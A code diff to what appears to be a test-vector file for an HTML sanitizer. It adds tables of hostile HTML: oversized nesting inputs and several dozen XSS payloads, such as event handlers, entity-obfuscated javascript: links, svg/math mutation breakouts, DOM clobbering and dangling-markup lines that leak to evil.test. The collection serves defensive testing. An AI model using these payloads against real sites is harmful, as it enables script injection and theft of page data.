@@ -1,10 +1,95 @@
-import { ADDRESS_VECTORS } from './vectors/addresses.ts'
-import { FOREIGN } from './vectors/foreign.ts'
-import { HANDLERS } from './vectors/handlers.ts'
-import { KNOWN } from './vectors/known.ts'
+import { ADDRESS_VECTORS, FOREIGN, HANDLERS } from './vectors/crossed.ts'
 import { MUTATIONS } from './vectors/mutation.ts'
 import { PAGE } from './vectors/page.ts'
-import { SIZE } from './vectors/size.ts'
+
+const IMG = '<img src=x onerror=alert(1)>'
+
+/** Input that is deeper or longer than anybody writes: browsers flatten what is nested more than 512 times. */
+const SIZE: Record<string, string> = {
+  'size: 600 divisions': `${'<div>'.repeat(600)}${IMG}${'</div>'.repeat(600)}`,
+  'size: 600 bold texts': `${'<b>'.repeat(600)}${IMG}`,
+  'size: 600 kinds of formatting': `${'<b><i><u>'.repeat(200)}${IMG}<p>x`,
+  'size: 600 quotes': `${'<blockquote>'.repeat(600)}x`,
+  'size: 300 lists': `${'<ul><li>'.repeat(300)}${IMG}`,
+  'size: 200 tables': `${'<table><tr><td>'.repeat(200)}${IMG}`,
+  'size: 600 spans with a link inside': `${'<span>'.repeat(600)}<a href=https://evil.test/x>x</a>`,
+  'size: 2000 unknown elements': `${'<x>'.repeat(2000)}${IMG}`,
+  'size: 600 namespaces': `${'<svg><foreignObject>'.repeat(300)}${IMG}`,
+  'size: 600 math texts': `${'<math><mtext>'.repeat(300)}${IMG}`,
+  'size: 600 templates': `${'<template>'.repeat(600)}${IMG}`,
+  'size: 1000 end tags': `${'</div></p>'.repeat(500)}${IMG}`,
+  'size: 1000 attributes': `<p ${Array.from({ length: 1000 }, (_, at) => `onx${at}=alert(1)`).join(' ')}>x</p>`,
+  'size: a name of 10,000 letters': `<${'x'.repeat(10_000)} onclick=alert(1)>${IMG}`,
+  'size: an attribute of 10,000 letters': `<p on${'x'.repeat(10_000)}=alert(1)>x</p>`,
+  'size: an address of 10,000 letters': `<a href="https://evil.test/${'x'.repeat(10_000)}">x</a>`,
+  'size: an id of 10,000 letters': `<p id="${'x'.repeat(10_000)}">x</p>`,
+  'size: a title of 10,000 letters': `<p title="${'x '.repeat(5_000)}">x</p>`,
+  'size: a word of 10,000 letters': `${'x'.repeat(10_000)}${IMG}`,
+  'size: 2000 entities': `${'&lt;'.repeat(2000)}${IMG}`,
+  'size: 2000 broken entities': `${'&lt'.repeat(2000)}${IMG}`,
+  'size: 2000 comments': `${'<!--'.repeat(2000)}${IMG}`,
+  'size: 1000 quotes of a value': `<p title=${`"'`.repeat(1000)}>${IMG}`,
+  'size: 1000 ids': Array.from({ length: 1000 }, (_, at) => `<b id=x${at}>x</b>`).join(''),
+}
+
+/** Hostile HTML that is in no family beside it, by what it tries. */
+const KNOWN: Record<string, string> = {
+  'plain script': `<script>alert(1)</script>`,
+  'script with a foreign source': `<script src=//evil.test/x.js></script>`,
+  'script in capitals with a slash': `<SCRIPT/SRC="https://evil.test/x.js"></SCRIPT >`,
+  'script split by itself': `<scr<script>ipt>alert(1)</scr</script>ipt>`,
+  'unclosed script': `before<script>alert(1)`,
+  'handler without spaces': `<img/src="x"/onerror=alert(1)>`,
+  'handler after a newline': `<img src=x\nonerror\n=\nalert(1)>`,
+  'handler with a form feed': `<img\fsrc=x\fonerror=alert(1)>`,
+  'handler in backticks': '<img src=`x` onerror=`alert(1)`>',
+  'handler after a quote in a value': `<img alt="x" title='"onerror=alert(1) ' src=x>`,
+  'handler on a body': `<body onload=alert(1)>text</body>`,
+  'handler on an unknown element': `<x onpointerenter=alert(1) tabindex=1 id=x>hover</x>`,
+  'autofocus handler': `<input autofocus onfocus=alert(1)>`,
+  'marquee handler': `<marquee onstart=alert(1)>x</marquee>`,
+  'video handler': `<video><source onerror=alert(1) src=x></video>`,
+  'animation handler': `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)>x</b>`,
+  'javascript link in long hex entities': `<a href="&#x000006A&#x0000061vascript:alert(1)">x</a>`,
+  'javascript link with a tab entity': `<a href="jav&Tab;ascript&colon;alert(1)">x</a>`,
+  'javascript link without quotes': `<a href=javascript:alert(1)>x</a>`,
+  'frame with markup in its fallback': `<iframe><img src=x onerror=alert(1)></iframe>`,
+  'nested frames': `<iframe><iframe><iframe><script>alert(1)</script></iframe></iframe></iframe>`,
+  'meta content security policy': `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
+  'style sheet link': `<link rel=stylesheet href="https://evil.test/x.css">`,
+  'style element': `<style>body{background:url("javascript:alert(1)")}</style>`,
+  'style element that closes late': `<style><!--</style><script>alert(1)</script>--></style>`,
+  'select with a script': `<select><script>alert(1)</script></select>`,
+  'noscript inside a paragraph': `<p><noscript></p><img src=x onerror=alert(1)></noscript>`,
+  plaintext: `<plaintext><img src=x onerror=alert(1)>`,
+  template: `<template><img src=x onerror=alert(1)></template>`,
+  'svg handler': `<svg/onload=alert(1)>`,
+  'svg title breakout': `<svg><title><style><img title="</style></title></svg><img src=x onerror=alert(1)>"></style></title></svg>`,
+  'svg paragraph breakout': `<svg></p><style><a id="</style><img src=x onerror=alert(1)>"></svg>`,
+  'svg textarea': `<svg><textarea><img src=x onerror=alert(1)></textarea></svg>`,
+  'math style breakout': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
+  'math form breakout': `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></form>`,
+  'comment in a conditional': `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
+  'processing instruction': `<?xml version="1.0"?><?php echo "<script>alert(1)</script>" ?><img src=x onerror=alert(1)>`,
+  doctype: `<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;`,
+  'dangling markup in a picture': `<img src='https://evil.test/?leak=`,
+  'dangling markup in a link': `<a href='https://evil.test/?leak=`,
+  'unclosed tag': `<b onmouseover=alert(1)//`,
+  'stray end tags': `</div></main></article></body></html><script>alert(1)</script>`,
+  'tags across tables': `<table><tr><td></table><script>alert(1)</script><td onclick=alert(1)>x`,
+  'ids of the page': `<p id="main">x</p><a name="step-1">y</a><img name="getElementById" id="location" src=x>`,
+  'element names of the prototype': `<constructor>x</constructor><__proto__ onclick=alert(1)>y</__proto__>`,
+  'attribute names of the prototype': `<p __proto__="x" constructor=y hasOwnProperty=z>x</p>`,
+  'youtube id that breaks out': `<div videoid='x" onclick="alert(1)' class=youtube-player></div>`,
+  'youtube poster that breaks out': `<div videoid=xzoen7x46qI style='background-image:url("x\\" onerror=alert(1) ")'></div>`,
+  'label mark of ours': `<a data-label="0" onclick=alert(1)>x</a><span data-label=0>y</span><img src=gone alt="<script>alert(1)</script>">`,
+  'alt text with markup': `<img src=gone alt="&lt;img src=x onerror=alert(1)&gt;">`,
+  'frame title with markup': `<iframe src="https://evil.test/" title="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
+  'custom element': `<x-widget is=y shadowrootmode=open><template shadowrootmode=open><script>alert(1)</script></template></x-widget>`,
+  'classes of the page': `<p class="leaving embed search-results hidden">x</p>`,
+  'popover and command': `<div popover id=p>x</div><button popovertarget=p commandfor=p command=show-modal>y</button>`,
+  'contenteditable and tabindex': `<p contenteditable tabindex=0 accesskey=x draggable=true oncut=alert(1)>x</p>`,
+}
 
 /** Hostile input by what it tries: each would run `alert`, ask evil.test for something or break out of its place where a filter is naive. */
 export const VECTORS: Record<string, string> = {
